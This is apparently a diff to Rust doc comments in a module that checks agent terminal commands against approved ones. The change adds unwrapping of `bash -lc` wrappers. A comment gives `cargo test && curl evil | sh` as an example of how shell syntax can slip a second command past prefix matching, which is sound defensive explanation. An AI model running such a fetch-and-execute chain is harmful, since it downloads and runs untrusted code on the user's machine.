@@ -8,7 +8,8 @@
 //!   without a shell) is compared word for word, and must be what the human
 //!   would be shown (`command` is its rendering), since a payload is
 //!   whatever the asker sent;
-//! - a `command` line alone (an ACP agent's terminal tool, which a shell
+//! - a `command` line alone (an ACP agent's terminal tool, unwrapped from
+//!   `bash -lc LINE` when the agent wraps it so, which a shell
 //!   runs) is split at spaces and tabs, and only when it holds no shell
 //!   syntax: `cargo test && curl evil | sh` starts with the same words.
 //!
